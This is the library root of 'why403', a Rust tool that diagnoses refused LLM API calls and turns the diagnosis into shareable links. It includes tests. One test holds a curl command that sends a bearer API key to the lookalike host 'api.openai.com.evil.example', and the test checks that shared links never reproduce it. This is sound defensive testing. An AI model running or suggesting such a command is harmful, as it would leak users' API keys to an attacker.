//! why403 tells why an LLM provider's API, ChatGPT or something in between refused a call.
//!
//! ```text
//! Raw ─redact→ Redacted ─intake→ Intake ─check→ findings ─signals→ Signals ─diagnose→ Diagnosis ─report→ Report
//! ```
//!
//! Each step is a pure function of the one before. Only [`redact`] ever sees raw text; no step opens a connection,
//! reads a clock or fails. [`inspect`] runs them all.

pub mod check;
pub mod compare;
pub mod diagnose;
#[cfg(target_arch = "wasm32")]
pub mod engine;
pub mod extras;
pub mod fingerprint_commands;
pub mod incidents;
pub mod intake;
pub mod limits;
mod native;
pub mod network;
mod ordered;
pub mod page;
pub mod permissions;
pub mod redact;
pub mod report;
pub mod retry;
pub mod schema;
pub mod share;
pub mod signals;
pub mod span;
pub mod ticket;
#[cfg(target_arch = "wasm32")]
pub mod tools;
pub mod words;

pub mod render;

use redact::{Raw, RedactOptions};
use report::Report;
use signals::Answer;

/// Diagnoses a paste: redacts it, understands it, checks it and ranks the causes.
///
/// `answers` are what the visitor said to questions so far; unknown ids are ignored. A paste that is a why403 link is
/// opened.
pub fn inspect(raw: Raw, options: &RedactOptions, answers: &[Answer]) -> Report {
    let links = raw.links();
    let opens = |fragment: &&String| share::open(fragment).is_ok();
    // One that does not open is said to be damaged where nothing else was pasted; elsewhere it is text.
    match links.candidates.iter().find(opens).or(links.candidates.first().filter(|_| links.alone)) {
        Some(fragment) => open_link(fragment, answers),
        None => diagnose_text(raw, options, answers),
    }
}

/// Diagnoses a text that is no link, or is not to be followed as one.
fn diagnose_text(raw: Raw, options: &RedactOptions, answers: &[Answer]) -> Report {
    let bytes = raw.len();
    let (redacted, intake) = intake::read(redact::redact(raw, options), options);
    let given = check::Given { now: options.now };
    let findings = check::run_with(&intake, redacted.text(), redacted.masked(), &given);
    let signals = signals::gather(redacted.text(), &intake, &findings, answers);
    let diagnosis = diagnose::diagnose(&signals);
    report::assemble(report::Parts {
        bytes,
        redacted: &redacted,
        intake: &intake,
        findings: &findings,
        signals: &signals,
        diagnosis: &diagnosis,
    })
}

/// Opens the fragment of a share link and shows its diagnosis again. `answers` count more than those in the link.
///
/// What is wrong with a damaged, foreign or newer link stands in the report's `notice`.
pub fn open_link(fragment: &str, answers: &[Answer]) -> Report {
    let opened = match share::open(fragment) {
        Ok(opened) => opened,
        Err(error) => return report::refused_link(&error),
    };
    let given =
        opened.signals.answers().map(|(question, answer)| Answer { question: question.into(), answer: answer.into() });
    let answers: Vec<Answer> = given.chain(answers.iter().cloned()).collect();
    let report = match opened.text {
        // A link inside a link is not followed: its text is shown as it stands.
        Some(text) => report::without_strangers(diagnose_text(Raw::new(text), &RedactOptions::default(), &answers)),
        None => {
            let signals = opened.signals.with(&answers);
            report::from_link(&signals, &diagnose::diagnose(&signals), opened.unknown)
        }
    };
    Report { made: opened.made, ..report }
}

/// The whole tree as data for a picture, as the facts in a share link's fragment and the answers see it; empty where the
/// link cannot be opened. Every report holds such a link.
pub fn tree(fragment: &str, answers: &[Answer]) -> Vec<diagnose::picture::Node> {
    let opened = share::open(fragment).map(|opened| opened.signals.with(answers));
    opened.map(|signals| diagnose::picture::nodes(&signals)).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_link_shows_the_same_diagnosis() {
        let text = "HTTP/1.1 401 Unauthorized\n\n{\"error\":{\"message\":\"Missing scopes: model.request\"}}";
        let answers = [Answer { question: "key-restricted".into(), answer: "yes".into() }];
        let first = inspect(Raw::new(text.to_owned()), &RedactOptions::default(), &answers);
        for link in [Some(&first.link), first.link_with_text.as_ref()] {
            let again = open_link(link.expect("both links are made"), &[]);
            assert_eq!(
                again.causes.iter().map(|c| (&c.id, c.probability)).collect::<Vec<_>>(),
                first.causes.iter().map(|c| (&c.id, c.probability)).collect::<Vec<_>>()
            );
            assert_eq!(again.responder.id, first.responder.id);
            assert_eq!(again.questions, first.questions);
            assert_eq!(again.notice, None);
        }
        assert!(first.link.len() < 400);
    }

    #[test]
    fn a_report_tells_what_who_opens_its_link_will_read() {
        let text = "403 Forbidden\n\nThe principal 1c7a2b6e-3c4d-4e5f-8a9b-0c1d2e3f4a5b lacks the required data action \
                    Microsoft.CognitiveServices/accounts/OpenAI/deployments/chat/completions/action to perform \
                    POST /openai/deployments/x/chat/completions";
        let report = inspect(Raw::new(text.to_owned()), &RedactOptions::default(), &[]);
        let mut shared = report.facts.iter().map(|f| f.shared.as_ref().unwrap_or(&f.text));
        assert!(report.facts.iter().any(|f| f.text.contains("1c7a2b6e")), "{:?}", report.facts);
        assert!(shared.clone().all(|text| !text.contains("1c7a2b6e")));
        let opened = open_link(&report.link, &[]);
        assert!(opened.facts.iter().all(|f| f.shared.is_none() && shared.any(|text| *text == f.text)));
    }

    #[test]
    fn an_answer_can_be_changed_after_opening() {
        let yes = [Answer { question: "key-restricted".into(), answer: "yes".into() }];
        let no = [Answer { question: "key-restricted".into(), answer: "no".into() }];
        let link = inspect(Raw::new(String::new()), &RedactOptions::default(), &yes).link;
        let given = |report: Report| report.questions.iter().find_map(|q| q.given.clone());
        assert_eq!(given(open_link(&link, &[])).as_deref(), Some("yes"));
        assert_eq!(given(open_link(&link, &no)).as_deref(), Some("no"));
    }

    #[test]
    fn a_link_without_facts_is_no_diagnosis() {
        let nothing = share::link(&signals::Signals::default(), None).expect("short");
        let report = open_link(&nothing, &[]);
        assert!(report.causes.is_empty() && !report.settled);
        assert!(report.notice.is_some_and(|n| n.contains("no facts")));
        let answers = [Answer { question: "key-restricted".into(), answer: "yes".into() }];
        let report = open_link(&nothing, &answers);
        assert!(!report.causes.is_empty() && report.notice.is_none());
    }

    #[test]
    fn no_command_of_a_link_sends_a_key_to_a_stranger() {
        let text = |host: &str| {
            format!(
                "curl https://{host}/v1/chat/completions -H \"Authorization: Bearer $OPENAI_API_KEY\"\n\nHTTP/1.1 403 Forbidden\n\n\
                 {{\"error\":{{\"message\":\"Project `proj_A` does not have access to model `gpt-5`\",\"code\":\"model_not_found\"}}}}"
            )
        };
        for (host, known) in [("api.openai.com", true), ("api.openai.com.evil.example", false)] {
            let first = inspect(Raw::new(text(host)), &RedactOptions::default(), &[]);
            assert!(first.reproduce.as_ref().is_some_and(|command| command.contains(host)), "{host}");
            let opened = open_link(first.link_with_text.as_deref().expect("a short text"), &[]);
            assert_eq!(opened.reproduce.is_some(), known, "{host}");
            assert_eq!(opened.notice.is_none(), known, "{host}");
            let commands = opened.causes.iter().flat_map(|cause| &cause.fixes).filter_map(|fix| fix.command.as_ref());
            assert!(known || commands.into_iter().all(|command| !command.contains(host)), "{host}");
        }
    }

    #[test]
    fn a_damaged_link_is_said_to_be() {
        let report = open_link("#v1.AAAA", &[]);
        assert!(report.notice.is_some_and(|n| n.contains("damaged")));
        assert!(report.causes.is_empty());
    }
}
